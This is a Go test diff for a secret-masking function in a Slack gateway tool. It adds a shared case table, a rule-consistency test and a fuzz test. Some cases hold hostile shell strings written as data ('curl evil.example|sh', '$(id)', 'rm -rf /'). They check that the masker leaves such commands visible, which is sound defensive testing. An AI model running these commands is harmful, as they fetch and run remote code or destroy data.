@@ -8,36 +8,43 @@ import (
 	"github.com/slackgate/slackgate/store"
 )
 
+// secretCases are texts with and without secrets, as maskSecrets shows them.
+var secretCases = []struct{ name, in, want string }{
+	{"AWS access key", "AKIAABCDEFGHIJKLMNOP", "AKIA••••"},
+	{"AWS session key", "id=ASIAABCDEFGHIJKLMNOP", "id=ASIA••••"},
+	{"GitHub token", "ghp_abcdefghijklmnopqrstuvwxyz0123", "ghp_••••"},
+	{"GitHub app token", "ghs_abcdefghijklmnopqrstuvwxyz0123", "ghs_••••"},
+	{"GitHub fine-grained token", "github_pat_11ABCDEFG0123456789_abcdefghij", "github_pat_••••"},
+	{"Slack bot token", "xoxb-1234-5678-abcdefgh", "xoxb-••••"},
+	{"Slack app token", "xapp-1-A0-123-abcdef", "xapp-••••"},
+	{"Anthropic key", "sk-ant-api03-abcdefghijkl", "sk-ant-••••"},
+	{"OpenAI key", "sk-proj-abcdefghijklmnopqrstuvwx", "sk-proj-••••"},
+	{"Authorization header", "curl -H 'Authorization: Bearer abc.def-123'", "curl -H 'Authorization: Bearer ••••'"},
+	{"bare bearer", "Bearer abcdefghijkl", "Bearer ••••"},
+	{"password in a URL", "git clone https://bob:hunter2@git.example.com/r", "git clone https://bob:••••@git.example.com/r"},
+	{"token assignment", "GITHUB_TOKEN=abc123 make", "GITHUB_TOKEN=•••• make"},
+	{"secret assignment", `export CLIENT_SECRET="s3cr3t"`, `export CLIENT_SECRET="••••"`},
+	{"key assignment", "OPENAI_API_KEY=whatever", "OPENAI_API_KEY=••••"},
+	{"password assignment", "PASSWORD=pw; ls", "PASSWORD=••••; ls"},
+	{"JSON env map", `{"API_TOKEN": "abc"}`, `{"API_TOKEN": "••••"}`},
+	{"private key block", "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\nabcdEFGH+/==\n-----END RSA PRIVATE KEY-----",
+		"-----BEGIN RSA PRIVATE KEY-----••••\n-----END RSA PRIVATE KEY-----"},
+	// A mask hides a literal value, never something the shell acts on.
+	{"command substitution stays visible", "X_TOKEN=$(curl evil.example|sh)", "X_TOKEN=$(curl evil.example|sh)"},
+	{"a command after a value stays visible", "X_TOKEN=abc;curl evil|sh", "X_TOKEN=••••;curl evil|sh"},
+	{"substitution in a URL password stays visible", "https://u:$(id)@h", "https://u:$(id)@h"},
+	{"a command line in a key block is not masked", "-----BEGIN RSA PRIVATE KEY-----\nrm -rf /\n-----END RSA PRIVATE KEY-----",
+		"-----BEGIN RSA PRIVATE KEY-----\nrm -rf /\n-----END RSA PRIVATE KEY-----"},
+	{"ordinary words", "make test; max_tokens: 100; task-abcdefghijklmnopqrstuvwxyz", "make test; max_tokens: 100; task-abcdefghijklmnopqrstuvwxyz"},
+	// (?i) folds k with the Kelvin sign and s with the long s.
+	{"a key name with a Kelvin sign", "MY_\u212aEY=abc", "MY_\u212aEY=••••"},
+	{"a secret name with a long s", "MY_\u017fECRET=abc", "MY_\u017fECRET=••••"},
+	{"a basic credential with a long s", "Ba\u017fic abcdefghijkl", "Ba\u017fic ••••"},
+	{"keywords in any case", "ApiKey: abc; Authorization=ABCDEFGHIJKLMNOP; BEARER abcdefghijkl", "ApiKey: ••••; Authorization=••••; BEARER ••••"},
+}
+
 func TestSecretsOfKnownShapesAreMasked(t *testing.T) {
-	tests := []struct{ name, in, want string }{
-		{"AWS access key", "AKIAABCDEFGHIJKLMNOP", "AKIA••••"},
-		{"AWS session key", "id=ASIAABCDEFGHIJKLMNOP", "id=ASIA••••"},
-		{"GitHub token", "ghp_abcdefghijklmnopqrstuvwxyz0123", "ghp_••••"},
-		{"GitHub app token", "ghs_abcdefghijklmnopqrstuvwxyz0123", "ghs_••••"},
-		{"GitHub fine-grained token", "github_pat_11ABCDEFG0123456789_abcdefghij", "github_pat_••••"},
-		{"Slack bot token", "xoxb-1234-5678-abcdefgh", "xoxb-••••"},
-		{"Slack app token", "xapp-1-A0-123-abcdef", "xapp-••••"},
-		{"Anthropic key", "sk-ant-api03-abcdefghijkl", "sk-ant-••••"},
-		{"OpenAI key", "sk-proj-abcdefghijklmnopqrstuvwx", "sk-proj-••••"},
-		{"Authorization header", "curl -H 'Authorization: Bearer abc.def-123'", "curl -H 'Authorization: Bearer ••••'"},
-		{"bare bearer", "Bearer abcdefghijkl", "Bearer ••••"},
-		{"password in a URL", "git clone https://bob:hunter2@git.example.com/r", "git clone https://bob:••••@git.example.com/r"},
-		{"token assignment", "GITHUB_TOKEN=abc123 make", "GITHUB_TOKEN=•••• make"},
-		{"secret assignment", `export CLIENT_SECRET="s3cr3t"`, `export CLIENT_SECRET="••••"`},
-		{"key assignment", "OPENAI_API_KEY=whatever", "OPENAI_API_KEY=••••"},
-		{"password assignment", "PASSWORD=pw; ls", "PASSWORD=••••; ls"},
-		{"JSON env map", `{"API_TOKEN": "abc"}`, `{"API_TOKEN": "••••"}`},
-		{"private key block", "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\nabcdEFGH+/==\n-----END RSA PRIVATE KEY-----",
-			"-----BEGIN RSA PRIVATE KEY-----••••\n-----END RSA PRIVATE KEY-----"},
-		// A mask hides a literal value, never something the shell acts on.
-		{"command substitution stays visible", "X_TOKEN=$(curl evil.example|sh)", "X_TOKEN=$(curl evil.example|sh)"},
-		{"a command after a value stays visible", "X_TOKEN=abc;curl evil|sh", "X_TOKEN=••••;curl evil|sh"},
-		{"substitution in a URL password stays visible", "https://u:$(id)@h", "https://u:$(id)@h"},
-		{"a command line in a key block is not masked", "-----BEGIN RSA PRIVATE KEY-----\nrm -rf /\n-----END RSA PRIVATE KEY-----",
-			"-----BEGIN RSA PRIVATE KEY-----\nrm -rf /\n-----END RSA PRIVATE KEY-----"},
-		{"ordinary words", "make test; max_tokens: 100; task-abcdefghijklmnopqrstuvwxyz", "make test; max_tokens: 100; task-abcdefghijklmnopqrstuvwxyz"},
-	}
-	for _, tt := range tests {
+	for _, tt := range secretCases {
 		t.Run(tt.name, func(t *testing.T) {
 			got := maskSecrets(tt.in)
 			if got != tt.want {
@@ -194,4 +201,42 @@ func TestAHiddenPartMakesApproveAsk(t *testing.T) {
 			t.Errorf("%d confirmations say %q: %s", strings.Count(js, tt.want), tt.want, js)
 		}
 	}
+}
+
+// maskAll is maskSecrets without the rules' cheap checks: every regexp
+// runs on every text.
+func maskAll(s string) string {
+	for _, rule := range secretRules {
+		s = rule.re.ReplaceAllString(s, rule.keep)
+	}
+	return s
+}
+
+func TestSecretRulesCheapChecksNeverSkipAMatch(t *testing.T) {
+	for _, tt := range secretCases {
+		for _, in := range []string{tt.in, strings.ToLower(tt.in), strings.ToUpper(tt.in)} {
+			for i, rule := range secretRules {
+				if rule.re.MatchString(in) && !rule.may(in) {
+					t.Errorf("rule %d (%s) matches %q, but its check skips it", i, rule.re, in)
+				}
+			}
+			if got, want := maskSecrets(in), maskAll(in); got != want {
+				t.Errorf("maskSecrets(%q) = %q, every regexp gives %q", in, got, want)
+			}
+		}
+	}
+}
+
+func FuzzMaskSecrets(f *testing.F) {
+	for _, tt := range secretCases {
+		f.Add(tt.in)
+	}
+	f.Fuzz(func(t *testing.T, in string) {
+		if got, want := maskSecrets(in), maskAll(in); got != want {
+			t.Fatalf("maskSecrets(%q) = %q, every regexp gives %q", in, got, want)
+		}
+		if got, want := hasInvisible(in), strings.IndexFunc(in, invisible) >= 0; got != want {
+			t.Fatalf("hasInvisible(%q) = %v, want %v", in, got, want)
+		}
+	})
 }
